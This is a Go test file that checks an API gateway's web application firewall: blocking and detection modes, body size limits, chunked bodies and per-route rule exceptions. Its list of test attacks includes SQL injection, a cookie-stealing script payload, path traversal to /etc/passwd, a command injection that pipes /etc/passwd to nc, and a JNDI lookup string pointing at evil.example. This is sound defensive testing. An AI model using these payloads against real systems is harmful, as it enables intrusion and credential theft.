package gateway_test

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/sumunio/sumun/internal/gateway"
	"github.com/sumunio/sumun/internal/gateway/waf"
)

// guarded is a route with a firewall.
func guarded(mode waf.Mode, changes ...func(*gateway.Route)) gateway.Route {
	r := public("guarded", "/w/")
	r.WAF = waf.DefaultConfig()
	r.WAF.Mode = mode
	for _, change := range changes {
		change(&r)
	}
	return r
}

// ask sends a request as ordinary clients do.
func (w *world) ask(t *testing.T, request, kind, body string) answer {
	t.Helper()
	text := request + " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\nConnection: close\r\n"
	if kind != "" {
		text += "Content-Type: " + kind + "\r\nContent-Length: " + strconv.Itoa(len(body)) + "\r\n"
	}
	answers := w.raw(t, text+"\r\n"+body)
	if len(answers) != 1 {
		t.Fatalf("%s: %d answers", request, len(answers))
	}
	return answers[0]
}

type asked struct{ request, kind, body string }

// attacks are of the kinds that the core rule set is for.
var attacks = []asked{
	{"GET /w/?id=" + url.QueryEscape("1' OR '1'='1' UNION SELECT password FROM users--"), "", ""},
	{"GET /w/?q=" + url.QueryEscape("<script>alert(document.cookie)</script>"), "", ""},
	{"GET /w/?file=" + url.QueryEscape("../../../../etc/passwd"), "", ""},
	{"GET /w/?cmd=" + url.QueryEscape("; cat /etc/passwd | nc 10.0.0.1 99"), "", ""},
	{"POST /w/", "application/json", `{"name":"x' OR '1'='1' UNION SELECT password FROM users--"}`},
	{"POST /w/", "application/vnd.example.v2+json", `{"name":"<script>alert(document.cookie)</script>"}`},
	{"POST /w/", "application/x-www-form-urlencoded", "name=" + url.QueryEscape("<script>alert(document.cookie)</script>")},
	{"PUT /w/", "application/json", `{"deep":{"er":["${jndi:ldap://evil.example/a}"]}}`},
}

// ordinary requests must pass, of the methods that APIs use, with their bodies as they were sent.
var ordinary = []asked{
	{"GET /w/orders?page=2&sort=-created&q=" + url.QueryEscape("O'Brien & 한글"), "", ""},
	{"DELETE /w/orders/7", "", ""},
	{"POST /w/orders", "application/json", `{"sku":"a-1","count":2,"note":"문 앞에 놓아 주세요, 감사합니다!"}`},
	{"PUT /w/orders/7", "application/json", `{"count":3}`},
	{"PATCH /w/orders/7", "application/merge-patch+json", `{"count":3}`},
	{"POST /w/orders", "application/vnd.example.v2+json; charset=utf-8", `{"sku":"a-1"}`},
	{"POST /w/orders", "application/x-www-form-urlencoded", "sku=a-1&count=2"},
}

// An attack must not reach the service, and ordinary requests must arrive unharmed. What was sent must not reach the log.
func TestFirewallBlocks(t *testing.T) {
	t.Parallel()
	w := setup(t, routes(guarded(waf.Blocking)))
	for _, a := range attacks {
		before := len(w.requests())
		got := w.ask(t, a.request, a.kind, a.body)
		if got.status != http.StatusForbidden || got.code() != "gateway.waf" || len(w.requests()) != before {
			t.Errorf("%v: %d %q", a, got.status, got.body)
		}
	}
	for _, a := range ordinary {
		if got := w.ask(t, a.request, a.kind, a.body); got.status != http.StatusOK || got.body != a.body {
			t.Errorf("%v: %d %q\n%s", a, got.status, got.body, w.log)
		}
	}
	if log := w.log.String(); !strings.Contains(log, "942") || strings.Contains(log, "UNION") || strings.Contains(log, "document.cookie") {
		t.Errorf("log: %s", log)
	}
}

// Detection must change nothing but the log.
func TestFirewallDetects(t *testing.T) {
	t.Parallel()
	w := setup(t, routes(guarded(waf.Detection, func(r *gateway.Route) { r.WAF.MaxBody = 100 })))
	for _, a := range slices.Concat(attacks, ordinary) {
		if got := w.ask(t, a.request, a.kind, a.body); got.status != http.StatusOK || got.body != a.body {
			t.Errorf("%v: %d %q", a, got.status, got.body)
		}
	}
	if n := strings.Count(w.log.String(), "request looks like an attack"); n != len(attacks) {
		t.Errorf("%d of %d attacks in the log: %s", n, len(attacks), w.log)
	}
	long := strings.Repeat("x", 1000)
	if got := w.ask(t, "POST /w/", "text/plain", long); got.status != http.StatusOK || got.body != long {
		t.Errorf("a long body: %d, %d bytes", got.status, len(got.body))
	}
}

// While blocking, nothing gets by uninspected: not what is too long, with or without a length, nor what cannot be parsed.
func TestFirewallOnBodies(t *testing.T) {
	t.Parallel()
	w := setup(t, routes(guarded(waf.Blocking, func(r *gateway.Route) { r.WAF.MaxBody = 100 })))
	if got := w.ask(t, "POST /w/", "application/json", `"`+strings.Repeat("x", 200)+`"`); got.status != http.StatusRequestEntityTooLarge {
		t.Errorf("too long: %d", got.status)
	}
	head := "POST /w/ HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\nConnection: close\r\nContent-Type: application/json\r\n"
	chunked := func(body string) answer {
		t.Helper()
		all := w.raw(t, head+"Transfer-Encoding: chunked\r\n\r\n"+fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(body), body))
		if len(all) != 1 {
			t.Fatalf("%d answers", len(all))
		}
		return all[0]
	}
	if got := chunked(`"` + strings.Repeat("x", 200) + `"`); got.status != http.StatusRequestEntityTooLarge {
		t.Errorf("too long in chunks: %d", got.status)
	}
	if got := chunked(`{"a":1}`); got.status != http.StatusOK || got.body != `{"a":1}` {
		t.Errorf("in chunks: %d %q", got.status, got.body)
	}
	if got := chunked(attacks[4].body); got.status != http.StatusForbidden {
		t.Errorf("an attack in chunks: %d", got.status)
	}
	if got := w.ask(t, "POST /w/", "application/json\r\nUpgrade: x", attacks[4].body); got.status != http.StatusForbidden {
		t.Errorf("an attack with an upgrade: %d", got.status)
	}
	if got := w.ask(t, "POST /w/", "application/json", `{"a":`); got.status != http.StatusBadRequest || got.code() != "gateway.waf_body" {
		t.Errorf("broken: %d %q", got.status, got.body)
	}
	if got := w.ask(t, "POST /w/", "application/octet-stream", "\x00\x01"); got.status != http.StatusForbidden {
		t.Errorf("of a type that is not known: %d", got.status)
	}
}

// A rule that finds an attack where there is none must be possible to leave out, for its route alone.
func TestFirewallExceptions(t *testing.T) {
	t.Parallel()
	other := guarded(waf.Blocking, func(r *gateway.Route) {
		r.Name, r.Paths, r.WAF.Except = "other", []string{"/o/"}, []int{920350, 920420}
	})
	w := setup(t, routes(guarded(waf.Blocking), other))
	for path, want := range map[string]int{"/w/": http.StatusForbidden, "/o/": http.StatusOK} {
		if got := w.ask(t, "POST "+path, "application/octet-stream", "plain"); got.status != want {
			t.Errorf("%s: %d", path, got.status)
		}
	}
	for want, change := range map[string]func(*waf.Config){
		"waf.paranoia":  func(c *waf.Config) { c.Paranoia = 5 },
		"waf.threshold": func(c *waf.Config) { c.Threshold = 0 },
		"waf.except":    func(c *waf.Config) { c.Except = []int{949110} },
		"waf.max_body":  func(c *waf.Config) { c.MaxBody = 0 },
	} {
		bad := w.config
		bad.Routes = slices.Clone(bad.Routes)
		change(&bad.Routes[0].WAF)
		if err := w.gateway.Load(bad); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", want, err)
		}
	}
}
